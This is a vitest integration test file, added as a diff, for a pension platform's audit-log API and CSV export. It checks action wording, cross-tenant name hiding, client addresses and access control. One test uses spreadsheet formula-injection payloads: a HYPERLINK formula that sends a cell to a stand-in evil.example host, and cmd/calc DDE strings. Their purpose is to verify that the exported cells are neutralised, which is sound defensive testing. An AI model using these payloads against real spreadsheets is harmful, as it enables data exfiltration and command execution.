@@ -1,0 +1,491 @@
+import { parse } from 'csv-parse/sync';
+import { and, desc, eq } from 'drizzle-orm';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { AUDIT_ACTION_TEXT } from '../../src/contracts/audit-text.js';
+import { todayInIreland } from '../../src/contracts/irish-dates.js';
+import { chainsAreSound } from '../../src/server/audit/audit.service.js';
+import { auditLog, users } from '../../src/server/db/schema.js';
+import { withActor } from '../../src/server/db/with-actor.js';
+import { csvCell } from '../../src/server/http/csv.js';
+import { EXPORT_COLUMNS } from '../../src/server/modules/audit/audit.service.js';
+import { tenantActor } from '../helpers/actors.js';
+import { buildTestApp, type TestApp } from '../helpers/app.js';
+import { testAuditService, verifyTestChains } from '../helpers/audit.js';
+import { uniqueClientAddress } from '../helpers/clients.js';
+import { ownerOf } from '../helpers/database.js';
+import {
+  createBroker,
+  createEmployer,
+  createMember,
+  createScheme,
+  createUser,
+  type MemberRow,
+  type UserRow,
+} from '../helpers/factories.js';
+import { registerName } from '../helpers/leak-registry.js';
+
+/**
+ * Issue 21 item 8: an audit log a reviewer can read. Actions in words, people and records by
+ * name (resolved when read, never across tenants; the records keep ids), the client address the
+ * server trusted beside the x-forwarded-for header, and a CSV export that a spreadsheet cannot be
+ * made to run.
+ */
+
+interface AuditItem {
+  id: string;
+  action: string;
+  actorId: string;
+  actorType: string;
+  entityType: string;
+  entityId: string;
+  summary: string;
+  actorName: string | null;
+  entityLabel: string | null;
+  entityDeleted: boolean;
+  ipAddress: string;
+  clientAddress: string | null;
+  newState: unknown;
+}
+
+const FIXED_DAY = Date.parse('2026-11-23T10:00:00Z');
+let clock = FIXED_DAY;
+let t: TestApp;
+/** The same database and clock, behind a proxy the service trusts. */
+let proxied: TestApp;
+
+interface Tenant {
+  brokerId: string;
+  employerId: string;
+  schemeId: string;
+  admin: UserRow;
+  member: MemberRow;
+}
+let a: Tenant;
+let b: Tenant;
+let superAdmin: UserRow;
+
+async function named(user: UserRow, name: string): Promise<UserRow> {
+  await ownerOf(t.database)
+    .update(users)
+    .set({ name: registerName(name) })
+    .where(eq(users.id, user.id));
+  return { ...user, name };
+}
+
+async function newTenant(adminName: string, member: { firstName: string; lastName: string }) {
+  const brokerId = await createBroker(t.database);
+  const employerId = await createEmployer(t.database, brokerId, 'Liffey Bakers Ltd');
+  const schemeId = await createScheme(t.database, { id: employerId, brokerId });
+  const admin = await named(await createUser(t.database, { brokerId }), adminName);
+  return {
+    brokerId,
+    employerId,
+    schemeId,
+    admin,
+    member: await createMember(t.database, { brokerId, employerId, schemeId }, member),
+  };
+}
+
+async function as(
+  app: TestApp,
+  user: UserRow,
+  method: 'GET' | 'POST' | 'PATCH' | 'DELETE',
+  url: string,
+  options: { payload?: object; remoteAddress?: string; headers?: Record<string, string> } = {},
+) {
+  return app.app.inject({
+    method,
+    url,
+    ...(options.payload === undefined ? {} : { payload: options.payload }),
+    remoteAddress: options.remoteAddress ?? uniqueClientAddress(),
+    headers: { authorization: `Bearer ${await app.tokenFor(user)}`, ...options.headers },
+  });
+}
+
+async function auditOf(reader: UserRow, filters = ''): Promise<AuditItem[]> {
+  const response = await as(t, reader, 'GET', `/api/audit?limit=100${filters}`);
+  expect(response.statusCode, response.body).toBe(200);
+  return response.json().items;
+}
+
+async function exportOf(reader: UserRow, filters = '') {
+  const response = await as(t, reader, 'GET', `/api/audit/export.csv${filters}`);
+  expect(response.statusCode, response.body).toBe(200);
+  return response;
+}
+
+function rowsOfCsv(body: string): Array<Record<string, string>> {
+  return parse(body, { bom: true, columns: true, skip_empty_lines: true });
+}
+
+beforeAll(async () => {
+  t = await buildTestApp({ now: () => new Date(clock) });
+  proxied = await buildTestApp({
+    database: t.database,
+    now: () => new Date(clock),
+    env: { TRUST_PROXY: '10.0.0.0/8' },
+  });
+  a = await newTenant('Siobhán Kehoe', { firstName: 'Aoife', lastName: 'Byrne' });
+  b = await newTenant('Tadhg Ó Murchú', { firstName: 'Ciarán', lastName: 'Walsh' });
+  superAdmin = await named(await createUser(t.database, { role: 'SuperAdmin' }), 'Platform Person');
+});
+afterAll(async () => {
+  await proxied.close();
+  await t.close();
+});
+
+describe('GET /api/audit in words and names', () => {
+  it('gives each record its action in words, who acted and what was affected by name', async () => {
+    clock += 1000;
+    const created = await as(t, a.admin, 'POST', '/api/schemes', {
+      payload: { employerId: a.employerId, name: 'Liffey Bakers Staff Pension', type: 'DC' },
+    });
+    expect(created.statusCode).toBe(201);
+    clock += 1000;
+    expect(
+      (await as(t, a.admin, 'POST', `/api/members/${a.member.id}/pps/reveal`)).statusCode,
+    ).toBe(200);
+    clock += 1000;
+    await as(t, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
+      payload: { name: 'Liffey Bakers (Dublin) Ltd' },
+    });
+
+    const items = await auditOf(a.admin);
+    const byAction = (action: string) => items.find((item) => item.action === action);
+    expect(byAction('member.pps_decrypted')).toMatchObject({
+      summary: 'Revealed a member’s PPS number',
+      actorName: 'Siobhán Kehoe',
+      entityType: 'member',
+      entityId: a.member.id,
+      entityLabel: 'Aoife Byrne',
+      entityDeleted: false,
+    });
+    expect(byAction('scheme.created')).toMatchObject({
+      summary: 'Created a scheme',
+      actorName: 'Siobhán Kehoe',
+      entityLabel: 'Liffey Bakers Staff Pension',
+    });
+    // Resolved when read: the employer's name as it is now, the record itself keeps ids only.
+    expect(byAction('employer.updated')).toMatchObject({
+      summary: 'Changed an employer’s details',
+      entityLabel: 'Liffey Bakers (Dublin) Ltd',
+    });
+    const [stored] = await ownerOf(t.database)
+      .select()
+      .from(auditLog)
+      .where(eq(auditLog.id, byAction('member.pps_decrypted')?.id as string));
+    expect(JSON.stringify(stored)).not.toMatch(/Aoife|Byrne|Siobhán|Kehoe/);
+  });
+
+  it('has words for every action the service writes, and a sentence for one it does not know yet', async () => {
+    const audit = testAuditService(() => new Date(clock));
+    const actor = { ...tenantActor(a.brokerId), userId: a.admin.id };
+    clock += 1000;
+    await withActor(t.database, actor, (tx) =>
+      audit.record(tx, actor, {
+        action: 'trustee.appointed',
+        entityType: 'trustee',
+        entityId: 'trustee-1',
+        tenantId: a.brokerId,
+        previousState: null,
+        newState: null,
+      }),
+    );
+    const [newest] = await auditOf(a.admin, '&entityType=trustee');
+    expect(newest).toMatchObject({
+      summary: 'Recorded “trustee.appointed” on a record of type “trustee”',
+      actorName: 'Siobhán Kehoe',
+      entityLabel: null,
+    });
+    for (const action of ['scheme.created', 'member.pps_decrypted', 'audit.exported']) {
+      expect(AUDIT_ACTION_TEXT[action]).toBeTruthy();
+    }
+  });
+
+  it('never resolves a name of another tenant, even for an id recorded in the reader’s own log', async () => {
+    // A record in tenant A's chain naming tenant B's admin and member: a BrokerAdmin of A may
+    // see the ids, never B's names (row-level security and the service's own tenant check).
+    const audit = testAuditService(() => new Date(clock));
+    const actor = { ...tenantActor(a.brokerId), userId: b.admin.id };
+    clock += 1000;
+    await withActor(t.database, actor, (tx) =>
+      audit.record(tx, actor, {
+        action: 'member.updated',
+        entityType: 'member',
+        entityId: b.member.id,
+        tenantId: a.brokerId,
+        previousState: null,
+        newState: null,
+      }),
+    );
+    const [seenByA] = await auditOf(a.admin, `&entityId=${b.member.id}`);
+    expect(seenByA).toMatchObject({
+      actorId: b.admin.id,
+      actorName: null,
+      entityId: b.member.id,
+      entityLabel: null,
+    });
+    expect(JSON.stringify(await auditOf(a.admin))).not.toMatch(/Ciarán|Walsh|Tadhg|Murchú/);
+    // B's own reader sees none of A's records at all; platform staff see every name.
+    expect(JSON.stringify(await auditOf(b.admin))).not.toMatch(/Aoife|Siobhán|Liffey/);
+    const [seenByPlatform] = await auditOf(superAdmin, `&entityId=${b.member.id}`);
+    expect(seenByPlatform).toMatchObject({
+      actorName: 'Tadhg Ó Murchú',
+      entityLabel: 'Ciarán Walsh',
+    });
+  });
+
+  it('shows platform staff to a tenant as platform staff, never by name', async () => {
+    clock += 1000;
+    expect((await as(t, superAdmin, 'GET', `/api/schemes/${a.schemeId}`)).statusCode).toBe(200);
+    const [viewed] = await auditOf(a.admin, `&entityId=${a.schemeId}&actorId=${superAdmin.id}`);
+    expect(viewed).toMatchObject({
+      action: 'scheme.viewed',
+      summary: 'Viewed a scheme',
+      actorType: 'SuperAdmin',
+      actorName: null,
+      entityLabel: 'Acme Staff Pension Scheme',
+    });
+  });
+
+  it('says when the record named has been deleted since', async () => {
+    const member = await createMember(
+      t.database,
+      { brokerId: a.brokerId, employerId: a.employerId, schemeId: a.schemeId },
+      { firstName: 'Órla', lastName: 'Dunne' },
+    );
+    clock += 1000;
+    expect((await as(t, a.admin, 'DELETE', `/api/members/${member.id}`)).statusCode).toBe(204);
+    const [deleted] = await auditOf(a.admin, `&entityId=${member.id}`);
+    expect(deleted).toMatchObject({
+      action: 'member.deleted',
+      summary: 'Deleted a member',
+      entityLabel: 'Órla Dunne',
+      entityDeleted: true,
+    });
+  });
+
+  it('refuses a filter that is not an id, so none of someone’s words reaches a record', async () => {
+    const response = await as(
+      t,
+      a.admin,
+      'GET',
+      `/api/audit?entityId=${encodeURIComponent('Aoife Byrne')}`,
+    );
+    expect(response.statusCode).toBe(400);
+  });
+});
+
+describe('the client address the server trusted (issue 21 item 8)', () => {
+  async function lastRecordOf(entityId: string, action: string) {
+    const [record] = await ownerOf(t.database)
+      .select()
+      .from(auditLog)
+      .where(and(eq(auditLog.entityId, entityId), eq(auditLog.action, action)))
+      .orderBy(desc(auditLog.timestamp))
+      .limit(1);
+    return record;
+  }
+
+  it('is the socket’s address without TRUST_PROXY, beside the header as it was sent', async () => {
+    clock += 1000;
+    await as(t, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
+      payload: { name: 'Liffey Bakers Ltd' },
+      remoteAddress: '192.0.2.61',
+      headers: { 'x-forwarded-for': '198.51.100.61' },
+    });
+    expect(await lastRecordOf(a.employerId, 'employer.updated')).toMatchObject({
+      ipAddress: '198.51.100.61',
+      clientAddress: '192.0.2.61',
+      hashVersion: 3,
+    });
+  });
+
+  it('is what a trusted proxy forwarded with TRUST_PROXY, beside the header as it was sent', async () => {
+    clock += 1000;
+    await as(proxied, a.admin, 'PATCH', `/api/employers/${a.employerId}`, {
+      payload: { name: 'Liffey Bakers (Dublin) Ltd' },
+      remoteAddress: '10.9.9.9',
+      headers: { 'x-forwarded-for': '203.0.113.5, 198.51.100.62' },
+    });
+    expect(await lastRecordOf(a.employerId, 'employer.updated')).toMatchObject({
+      ipAddress: '203.0.113.5, 198.51.100.62',
+      clientAddress: '198.51.100.62',
+    });
+    const [shown] = await auditOf(a.admin, `&entityId=${a.employerId}`);
+    expect(shown).toMatchObject({
+      ipAddress: '203.0.113.5, 198.51.100.62',
+      clientAddress: '198.51.100.62',
+    });
+  });
+
+  it('is recorded for someone not signed in too (a password reset request)', async () => {
+    clock += 1000;
+    const response = await proxied.app.inject({
+      method: 'POST',
+      url: '/api/auth/forgot-password',
+      payload: { email: a.admin.email },
+      remoteAddress: '10.9.9.10',
+      headers: { 'x-forwarded-for': '198.51.100.63' },
+    });
+    expect(response.statusCode).toBe(200);
+    expect(await lastRecordOf(a.admin.id, 'user.password_reset_requested')).toMatchObject({
+      actorType: 'Anonymous',
+      ipAddress: '198.51.100.63',
+      clientAddress: '198.51.100.63',
+    });
+    const [shown] = await auditOf(a.admin, `&actorId=anonymous`);
+    expect(shown).toMatchObject({
+      summary: 'Asked for a password reset link',
+      actorName: null,
+      entityLabel: 'Siobhán Kehoe',
+    });
+  });
+});
+
+describe('GET /api/audit/export.csv', () => {
+  it('writes the filtered log as CSV with times, names, words, ids and both addresses', async () => {
+    const response = await exportOf(a.admin, `?entityId=${a.member.id}`);
+    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
+    expect(response.headers['content-disposition']).toBe(
+      `attachment; filename="audit-log-${todayInIreland(new Date())}.csv"`,
+    );
+    expect(response.body.startsWith('\uFEFF')).toBe(true);
+    expect(response.body).toContain('\r\n');
+    const rows = rowsOfCsv(response.body);
+    expect(Object.keys(rows[0] ?? {})).toEqual([...EXPORT_COLUMNS]);
+    const reveal = rows.find((row) => row['Action code'] === 'member.pps_decrypted');
+    expect(reveal).toMatchObject({
+      'Time (UTC)': expect.stringMatching(/^2026-11-23T10:00:\d\d\.\d{3}Z$/),
+      'Time (Ireland)': expect.stringMatching(/^23\/11\/2026 10:00:\d\d GMT$/),
+      Who: 'Siobhán Kehoe',
+      Role: 'BrokerAdmin',
+      'Who (id)': a.admin.id,
+      Action: 'Revealed a member’s PPS number',
+      'Record type': 'Member',
+      Record: 'Aoife Byrne',
+      'Record id': a.member.id,
+    });
+    expect(rows.every((row) => row['Record id'] === a.member.id)).toBe(true);
+  });
+
+  it('keeps every cell a spreadsheet would run as a formula as text', async () => {
+    const member = await createMember(
+      t.database,
+      { brokerId: a.brokerId, employerId: a.employerId, schemeId: a.schemeId },
+      { firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', lastName: 'Byrne' },
+    );
+    clock += 1000;
+    await as(t, a.admin, 'POST', `/api/members/${member.id}/pps/reveal`, {
+      headers: { 'x-forwarded-for': "@SUM(1+1)*cmd|' /C calc'!A0" },
+    });
+    clock += 1000;
+    const scheme = await as(t, a.admin, 'POST', '/api/schemes', {
+      payload: { employerId: a.employerId, name: "+cmd|' /C calc'!A0", type: 'DC' },
+    });
+    expect(scheme.statusCode).toBe(201);
+
+    const body = (await exportOf(a.admin)).body;
+    // As written: the quote first, then RFC 4180's doubled quotes inside a quoted cell.
+    expect(body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"") Byrne"`);
+    expect(body).toContain(`'+cmd|' /C calc'!A0`);
+    expect(body).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    const rows = rowsOfCsv(body);
+    const reveal = rows.find((row) => row['Record id'] === member.id);
+    expect(reveal?.Record).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Open") Byrne`);
+    expect(reveal?.['X-Forwarded-For']).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
+    const created = rows.find((row) => row['Record id'] === scheme.json().id);
+    expect(created?.Record).toBe(`'+cmd|' /C calc'!A0`);
+    // No cell of the whole file starts with a formula character.
+    for (const row of rows) {
+      for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('quotes and escapes cells as RFC 4180 says, and neutralises every formula start', () => {
+    expect(csvCell('plain')).toBe('plain');
+    expect(csvCell('a,b')).toBe('"a,b"');
+    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
+    expect(csvCell('two\nlines')).toBe('"two\nlines"');
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
+      expect(csvCell(`${start}1`)).toMatch(/^"?'/);
+    }
+    expect(csvCell('=1,2')).toBe(`"'=1,2"`);
+  });
+
+  it('is itself audited: the filters and the row count, never a name', async () => {
+    clock += 1000;
+    const response = await exportOf(a.admin, `?entityType=member&from=2026-11-01T00:00:00Z`);
+    const exported = rowsOfCsv(response.body).length;
+    const [record] = await ownerOf(t.database)
+      .select()
+      .from(auditLog)
+      .where(and(eq(auditLog.action, 'audit.exported'), eq(auditLog.actorId, a.admin.id)))
+      .orderBy(desc(auditLog.timestamp))
+      .limit(1);
+    expect(record).toMatchObject({
+      tenantId: a.brokerId,
+      entityType: 'audit',
+      entityId: 'export',
+      newState: {
+        filters: { entityType: 'member', from: '2026-11-01T00:00:00Z' },
+        rows: exported,
+        format: 'csv',
+      },
+    });
+    expect(JSON.stringify(record)).not.toMatch(/Aoife|Byrne|Siobhán|HYPERLINK/);
+    const [shown] = await auditOf(a.admin, '&entityType=audit&entityId=export');
+    expect(shown).toMatchObject({
+      summary: 'Exported the audit log as CSV',
+      actorName: 'Siobhán Kehoe',
+    });
+  });
+
+  it('holds only the reader’s own tenant for a BrokerAdmin, and every tenant for platform staff', async () => {
+    clock += 1000;
+    await as(t, b.admin, 'PATCH', `/api/employers/${b.employerId}`, {
+      payload: { name: 'Shannon Ferries Ltd' },
+    });
+    const ofB = (await exportOf(b.admin)).body;
+    expect(ofB).not.toMatch(/Aoife|Siobhán|Liffey/);
+    expect(ofB).not.toContain(a.brokerId);
+    expect(rowsOfCsv(ofB).map((row) => row.Record)).toContain('Shannon Ferries Ltd');
+    const all = (await exportOf(superAdmin, `?entityType=member`)).body;
+    expect(all).toContain('Aoife Byrne');
+    expect(all).toContain('Ciarán Walsh');
+  });
+
+  it('is refused to everyone below BrokerAdmin, like the log itself', async () => {
+    const user = await createUser(t.database, { brokerId: a.brokerId, role: 'BrokerUser' });
+    const hr = await createUser(t.database, {
+      brokerId: a.brokerId,
+      employerId: a.employerId,
+      role: 'EmployerAdmin',
+    });
+    for (const reader of [user, hr]) {
+      for (const url of ['/api/audit/export.csv', '/api/audit']) {
+        const response = await as(t, reader, 'GET', url);
+        expect(response.statusCode).toBe(403);
+        expect(response.json()).toEqual({ error: 'Forbidden' });
+      }
+    }
+    const signedOut = await t.app.inject({ method: 'GET', url: '/api/audit/export.csv' });
+    expect(signedOut.statusCode).toBe(401);
+  });
+
+  it('is described in the OpenAPI document as CSV', async () => {
+    const spec = t.app.swagger() as {
+      paths: Record<string, { get?: { responses: Record<string, { content?: object }> } }>;
+    };
+    const responses = spec.paths['/api/audit/export.csv']?.get?.responses;
+    expect(Object.keys(responses?.['200']?.content ?? {})).toEqual(['text/csv']);
+  });
+});
+
+describe('the chain after all of the above', () => {
+  it('still verifies', async () => {
+    const report = await verifyTestChains(t.database);
+    expect(report.broken).toEqual([]);
+    expect(chainsAreSound(report)).toBe(true);
+  });
+});
